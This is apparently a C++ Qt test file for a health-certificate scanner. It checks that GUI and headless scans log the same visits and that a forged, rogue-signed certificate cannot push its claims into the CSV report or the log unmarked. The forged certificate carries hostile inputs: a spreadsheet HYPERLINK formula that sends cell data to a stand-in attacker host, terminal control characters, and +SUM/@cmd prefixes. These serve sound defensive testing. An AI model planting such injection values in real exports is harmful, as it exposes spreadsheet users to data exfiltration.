// The two shells over one counter::CounterSession: the window's scan worker (ui/ScanWorker, on its own
// thread) and the headless scan (`passdesk-cli scan`, which the GUI's headless demo also runs). The same
// scripted session through both must leave the same visits and evidence in the log; and what a forged
// certificate claims never reaches the headless scan's CSV or the log unmarked.
#include "ScanWorker.h"
#include "cli/ScanCommand.h"
#include "common/AppPaths.h"
#include "support/DemoIssuer.h"
#include "log/EvidenceJournal.h"
#include "log/VisitLog.h"
#include "scan/FileSource.h"
#include "support/QrRenderer.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QThread>
#include <QtTest>

#include <opencv2/imgcodecs.hpp>
#include <opencv2/imgproc.hpp>

using namespace passdesk;

namespace {

const SystemClock g_clock;

struct LogContents
{
    QStringList visits;   ///< one line per visit: everything but its id, time and hashes
    QStringList evidence; ///< one line per evidence period: kind and cause
};

LogContents contents(const QString& path)
{
    SystemClock clock;
    LogContents c;
    auto log = log::VisitLog::open(path, clock, {});
    if (!log) {
        return c;
    }
    const QDate today = QDate::currentDate();
    if (auto rows = (*log)->listRange(today.addDays(-1), today.addDays(1))) {
        for (const auto& v : *rows) {
            c.visits << QStringList{v.verdict, v.reasons, v.format,
                                    v.type,    v.policy,  v.country,
                                    v.input,   v.staff,   QString::fromLatin1(v.idHash.isEmpty() ? "" : "id")}
                            .join(QLatin1Char('|'));
        }
    }
    log::EvidenceJournal journal((*log)->database(), clock);
    if (auto events =
            journal.list(QDateTime::currentDateTimeUtc().addDays(-1), QDateTime::currentDateTimeUtc().addDays(1))) {
        for (const auto& e : *events) {
            c.evidence << e.kind + QLatin1Char('|') + e.cause + QLatin1Char('|') +
                              (e.ended.isValid() ? QStringLiteral("closed") : QStringLiteral("open"));
        }
    }
    return c;
}

/// A QR image of `text`, written as a PNG in `dir`.
QString writeCode(const QString& dir, const QString& name, const QByteArray& text)
{
    cv::Mat m; // the modules come with their quiet zone
    cv::resize(test::QrRenderer::modules(QString::fromLatin1(text)), m, {}, 3, 3, cv::INTER_NEAREST);
    const QString path = dir + QLatin1Char('/') + name;
    cv::imwrite(path.toStdString(), m);
    return path;
}

/// A log whose previous run never ended (a power cut): the next session must record it.
bool seedUncleanRun(const QString& path)
{
    auto log = log::VisitLog::open(path, g_clock, {});
    if (!log) {
        return false;
    }
    log::EvidenceJournal journal((*log)->database(), g_clock);
    (void)journal.startRun();
    return journal.heartbeat().ok();
}

} // namespace

class SessionShellsTest : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void headlessScanLogsExactlyWhatTheWindowLogs();
    void forgedClaimsNeverReachTheCsvOrLogUnmarked();
};

void SessionShellsTest::headlessScanLogsExactlyWhatTheWindowLogs()
{
    QTemporaryDir dir;
    const QString footage = app::demoDir() + QStringLiteral("/footage");
    const QString trustList = app::demoDir() + QStringLiteral("/trust-list.json");
    const QString at = QDateTime::currentDateTimeUtc().toString(Qt::ISODate);

    // The window: its worker on its own thread, over the demo footage once.
    const QString windowLog = dir.filePath(QStringLiteral("window.db"));
    const QString cliLog = dir.filePath(QStringLiteral("cli.db"));
    QVERIFY(seedUncleanRun(windowLog));
    QVERIFY(seedUncleanRun(cliLog));
    {
        auto store = std::make_shared<trust::TrustStore>();
        QVERIFY(store->importPath(trustList));
        auto source = std::make_unique<scan::FileSource>(footage, false, std::chrono::milliseconds(0),
                                                         QStringLiteral("demo footage"));
        QThread thread;
        auto* worker = new ui::ScanWorker(std::move(source), store, g_clock, windowLog);
        worker->moveToThread(&thread);
        QObject::connect(&thread, &QThread::finished, worker, &QObject::deleteLater);
        QSignalSpy states(worker, &ui::ScanWorker::sourceStateChanged);
        QSignalSpy outcomes(worker, &ui::ScanWorker::outcomeReady);
        QSignalSpy failures(worker, &ui::ScanWorker::logFailed);
        thread.start();
        QMetaObject::invokeMethod(
            worker, [worker, at] { worker->setFixedTime(QDateTime::fromString(at, Qt::ISODate)); },
            Qt::BlockingQueuedConnection);
        QMetaObject::invokeMethod(worker, &ui::ScanWorker::start, Qt::BlockingQueuedConnection);
        QTRY_VERIFY_WITH_TIMEOUT(
            std::any_of(states.cbegin(), states.cend(),
                        [](const QList<QVariant>& s) { return s.at(1).toInt() == int(scan::SourceState::Finished); }),
            60000);
        QMetaObject::invokeMethod(worker, &ui::ScanWorker::stop, Qt::BlockingQueuedConnection);
        thread.quit();
        thread.wait();
        QCOMPARE(failures.count(), 0);
        QVERIFY(outcomes.count() >= 5);
    }

    // The headless scan, as `passdesk-cli scan --source demo` and the GUI's headless demo run it.
    QCOMPARE(cli::runScan({QStringLiteral("--source"), QStringLiteral("demo"), QStringLiteral("--db"), cliLog,
                           QStringLiteral("--at"), at}),
             0);

    const LogContents window = contents(windowLog);
    const LogContents headless = contents(cliLog);
    QVERIFY(window.visits.size() >= 5);
    QStringList verdicts;
    for (const QString& v : window.visits) {
        verdicts << v.section(QLatin1Char('|'), 0, 0);
    }
    verdicts.removeDuplicates();
    QVERIFY2(verdicts.size() >= 2, qPrintable(verdicts.join(u',')));
    QCOMPARE(headless.visits, window.visits);
    QVERIFY2(window.evidence.contains(QStringLiteral(
                 "unclean_shutdown|the previous run ended without closing (crash, power cut or kill)|closed")),
             qPrintable(window.evidence.join(u';')));
    QCOMPARE(headless.evidence, window.evidence);
}

void SessionShellsTest::forgedClaimsNeverReachTheCsvOrLogUnmarked()
{
    QTemporaryDir dir;
    // A forger's certificate: schema-valid, signed by a key no trust list holds, every free-text claim hostile.
    const QString formula = QStringLiteral("=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")");
    const QString control = QStringLiteral("\x01\x1b[31m\x7f");
    const QString huge(10000, QLatin1Char('W'));
    QJsonObject payload = credential::DemoIssuer::euVaccination(
        formula + control, huge, QStringLiteral("+SUM(1,2)"), QStringLiteral("@cmd"), QStringLiteral("1990-01-01"), 2,
        2, QDate(2021, 11, 1), QStringLiteral("KR"), QStringLiteral("URN:UVCI:01:KR:FORGED"));
    // The forger names a real trusted signer (the demo DSC, so its kid matches) but signs with a key of his own.
    QFile listFile(app::demoDir() + QStringLiteral("/trust-list.json"));
    QVERIFY(listFile.open(QIODevice::ReadOnly));
    const QString dscBase64 = QJsonDocument::fromJson(listFile.readAll())
                                  .object()
                                  .value(QStringLiteral("dsc"))
                                  .toArray()
                                  .at(0)
                                  .toObject()
                                  .value(QStringLiteral("certificate"))
                                  .toString();
    auto dsc = crypto::X509Certificate::fromDer(QByteArray::fromBase64(dscBase64.toLatin1()));
    QVERIFY(dsc);
    const crypto::SigningKey forger = crypto::SigningKey::generate(crypto::SigningKey::Type::EcP256);
    const QDateTime issued(QDate(2021, 12, 1), QTime(9, 0), Qt::UTC);
    const QByteArray text =
        credential::DemoIssuer::euDccText(payload, formula + control + huge, issued, issued.addYears(1), forger, *dsc);
    const QString images = dir.filePath(QStringLiteral("codes"));
    QVERIFY(QDir().mkpath(images));
    writeCode(images, QStringLiteral("forged.png"), text);

    // Trust only the demo list: the forger's key is unknown.
    const QString logPath = dir.filePath(QStringLiteral("visits.db"));
    const QString csvPath = dir.filePath(QStringLiteral("scan.csv"));
    QCOMPARE(cli::runScan({QStringLiteral("--source"), images, QStringLiteral("--trust"),
                           app::demoDir() + QStringLiteral("/trust-list.json"), QStringLiteral("--db"), logPath,
                           QStringLiteral("--report"), csvPath, QStringLiteral("--at"),
                           issued.addDays(40).toString(Qt::ISODate)}),
             0);

    QFile csv(csvPath);
    QVERIFY(csv.open(QIODevice::ReadOnly));
    const QByteArray bytes = csv.readAll();
    QVERIFY(bytes.startsWith("\xEF\xBB\xBF"));
    const QStringList lines = QString::fromUtf8(bytes.mid(3)).split(QStringLiteral("\r\n"), Qt::SkipEmptyParts);
    QCOMPARE(lines.size(), 2); // header + the forged code's verdict
    QVERIFY(!lines.at(1).startsWith(u'='));
    for (const QString& cell : lines.at(1).split(u',')) {
        const QString bare = cell.startsWith(u'"') ? cell.mid(1) : cell;
        QVERIFY2(bare.isEmpty() || !QStringView(u"=+-@").contains(bare.front()), qPrintable(cell));
    }
    for (const QChar c : lines.at(1)) {
        QVERIFY2(c.unicode() >= 0x20 && c.unicode() != 0x7f, "a control character reached the CSV");
    }
    QVERIFY(!lines.at(1).contains(QStringLiteral("HYPERLINK")));
    QVERIFY(!lines.at(1).contains(huge.left(100)));
    const QStringList header = lines.at(0).split(u',');
    const QStringList row = lines.at(1).split(u',');
    QCOMPARE(row.size(), header.size());
    QCOMPARE(row.at(header.indexOf(QStringLiteral("issuing_country"))), QStringLiteral("unverified"));
    const QString verdict = row.at(header.indexOf(QStringLiteral("verdict")));
    QVERIFY2(verdict != QStringLiteral("valid") && verdict != QStringLiteral("check-id"), qPrintable(verdict));

    // The log: the country marked, no name, nothing of the forger's text.
    auto log = log::VisitLog::open(logPath, g_clock, {});
    QVERIFY(log);
    auto rows = (*log)->listRange(QDate::currentDate().addDays(-1), QDate::currentDate().addDays(1));
    QVERIFY(rows);
    QCOMPARE(rows->size(), 1);
    const log::Visit& v = rows->front();
    QCOMPARE(v.country, QStringLiteral("unverified"));
    QVERIFY(v.holderName.isEmpty());
    for (const QString& f : {v.verdict, v.reasons, v.format, v.type, v.policy, v.country, v.input, v.staff}) {
        QVERIFY2(!f.contains(QStringLiteral("HYPERLINK")) && !f.contains(u'\x01') && f.size() < 200,
                 qPrintable(f.left(80)));
    }
}

QTEST_MAIN(SessionShellsTest)
#include "SessionShellsTest.moc"
